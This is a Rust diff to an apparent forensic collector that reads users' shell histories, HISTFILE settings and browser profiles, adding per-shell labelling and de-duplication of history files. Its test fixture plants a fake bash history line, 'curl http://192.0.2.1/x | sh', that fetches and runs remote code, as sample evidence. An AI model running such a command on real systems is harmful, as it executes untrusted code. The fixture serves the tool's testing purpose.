@@ -12,7 +12,7 @@
 mod desktop;
 mod places;
 
-use std::collections::{BTreeMap, BTreeSet};
+use std::collections::{BTreeMap, BTreeSet, HashSet};
 
 use bundle::item::{Nanos, Status, shown};
 use bundle::time::Instant;
@@ -85,7 +85,7 @@ struct CommandRow<'a> {
     path: &'a str,
     /// `history_command`.
     record: &'static str,
-    /// The program: `bash`, `zsh`, `mysql` …
+    /// The program: `bash`, `zsh`, `mysql` …; `unknown` where only a process's HISTFILE names the history.
     shell: &'a str,
     /// When, where the history keeps it.
     #[serde(skip_serializing_if = "Option::is_none")]
@@ -304,7 +304,8 @@ impl Collect for UserActivity {
         let mut people = People {
             owners: session.host().owners_of_homes(),
             zone: session.host().time_zone().0,
-            named: BTreeSet::new(),
+            named: BTreeMap::new(),
+            read: HashSet::new(),
             profiles: BTreeMap::new(),
             events_left: EVENTS_MAX,
         };
@@ -319,16 +320,14 @@ impl Collect for UserActivity {
         })?;
         people.environments(session)?;
         people.browsers(session)?;
-        // Not among the usual names, which were read above.
-        let named: Vec<Glob> = people.named.iter().filter_map(|path| Glob::parse(&escaped(path)).ok()).collect();
-        self.with_request(&named, |request| {
+        let named: Vec<(Glob, &'static str)> =
+            people.named.iter().filter_map(|(path, shell)| Some((Glob::parse(&escaped(path)).ok()?, *shell))).collect();
+        let globs: Vec<Glob> = named.iter().map(|(glob, _)| glob.clone()).collect();
+        self.with_request(&globs, |request| {
             request.each(session, |session, entry, numbers| {
-                let purpose = Purpose::History("histfile", Format::Lines);
-                if numbers.is_empty() {
-                    copier.hand_over(session, entry)
-                } else {
-                    people.take(session, &mut copier, entry, purpose)
-                }
+                let shell = numbers.first().and_then(|number| named.get(usize::try_from(*number).ok()?));
+                let purpose = shell.map_or(Purpose::Take, |(_, shell)| Purpose::History(shell, Format::Lines));
+                people.take(session, &mut copier, entry, purpose)
             })
         })
     }
@@ -372,7 +371,10 @@ struct Profile {
 struct People {
     owners: BTreeMap<Vec<u8>, String>,
     zone: TimeZone,
-    named: BTreeSet<String>,
+    /// Histories that HISTFILE names, and whose it is.
+    named: BTreeMap<String, &'static str>,
+    /// Histories that were read: HISTFILE may name a usual one, and most often does.
+    read: HashSet<Vec<u8>>,
     profiles: BTreeMap<Vec<u8>, Profile>,
     events_left: u32,
 }
@@ -405,6 +407,9 @@ impl People {
         shell: &'static str,
         format: Format,
     ) -> Result<(), Stopped> {
+        if !self.read.insert(entry.path.to_vec()) {
+            return Ok(());
+        }
         let (path, path_b64) = shown(entry.path);
         let is_database = path.ends_with(".sqlite");
         let content = if is_database { Vec::new() } else { read(session, entry, HISTORY_BYTES_MAX)? };
@@ -480,14 +485,21 @@ impl People {
             })?;
         }
         let home = self.owners.keys().filter(|home| is_below(entry.path, home)).max_by_key(|home| home.len()).cloned();
+        let shell = if path.contains("zsh") {
+            "zsh"
+        } else if path.contains("ksh") {
+            "ksh"
+        } else {
+            "bash"
+        };
         for value in named {
-            self.name(&value, home.as_deref());
+            self.name(&value, home.as_deref(), shell);
         }
         Ok(())
     }
 
     /// Remembers where a HISTFILE leads: in a home when it is known, else in every home.
-    fn name(&mut self, value: &str, home: Option<&[u8]>) {
+    fn name(&mut self, value: &str, home: Option<&[u8]>, shell: &'static str) {
         let below = ["~/", "$HOME/", "${HOME}/"].iter().find_map(|start| value.strip_prefix(start));
         let homes: Vec<Vec<u8>> =
             home.map_or_else(|| self.owners.keys().cloned().collect(), |home| vec![home.to_vec()]);
@@ -500,7 +512,7 @@ impl People {
         for path in paths {
             let is_plain = !path.contains('$') && !path.contains("/../") && path != "/dev/null";
             if is_plain && self.named.len() < NAMED_MAX {
-                self.named.insert(path);
+                self.named.entry(path).or_insert(shell);
             }
         }
     }
@@ -526,7 +538,7 @@ impl People {
                     continue;
                 }
                 if name == "HISTFILE" {
-                    self.name(&value, None);
+                    self.name(&value, None, "unknown");
                 }
                 // One row for each value: a session hands it on to every child.
                 if told.insert((name.to_owned(), value.clone())) {
@@ -699,7 +711,7 @@ mod tests {
         let at = root.path();
         put(at, "etc/passwd", b"root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n");
         put(at, "root/.bash_history", b"#1764500000\ncurl http://192.0.2.1/x | sh\n#1764400000\nbad \xff\n");
-        put(at, "root/.bashrc", b"HISTSIZE=0\nexport HISTFILE=~/.cache/h\n");
+        put(at, "root/.bashrc", b"HISTSIZE=0\nexport HISTFILE=~/.cache/h\nHISTFILE=$HOME/.bash_history\n");
         put(at, "root/.cache/h", b"hidden command\n");
         put(at, "home/alice/.zsh_history", b"");
         symlink("/dev/null", at.join("home/alice/.bash_history")).unwrap();
@@ -737,14 +749,14 @@ mod tests {
         );
         assert_eq!((&commands[0]["time_ns"], &commands[0]["line"]), (&"1764500000000000000".into(), &2.into()));
         assert!(commands[1]["command_b64"].is_string());
-        assert_eq!((&commands[2]["shell"], &commands[2]["command"]), (&"histfile".into(), &"hidden command".into()));
+        assert_eq!((&commands[2]["shell"], &commands[2]["command"]), (&"bash".into(), &"hidden command".into()));
         let files = of("history_file");
         let file = |path: &str| files.iter().find(|row| row["path"] == path).unwrap();
         assert_eq!(file("/root/.bash_history")["times_going_back"], 1);
         assert_eq!(file("/home/alice/.bash_history")["is_null_link"], true);
         assert_eq!(file("/home/alice/.zsh_history")["is_empty"], true);
         let settings: Vec<_> = of("history_setting").iter().map(|row| row["value"].clone()).collect();
-        assert_eq!(settings, ["0", "~/.cache/h"]);
+        assert_eq!(settings, ["0", "~/.cache/h", "$HOME/.bash_history"]);
         let profiles: Vec<_> =
             of("browser_profile").iter().map(|row| (row["browser"].clone(), row["files"].clone())).collect();
         assert_eq!(profiles[0], ("chrome".into(), serde_json::json!(["History", "Network/Cookies"])));
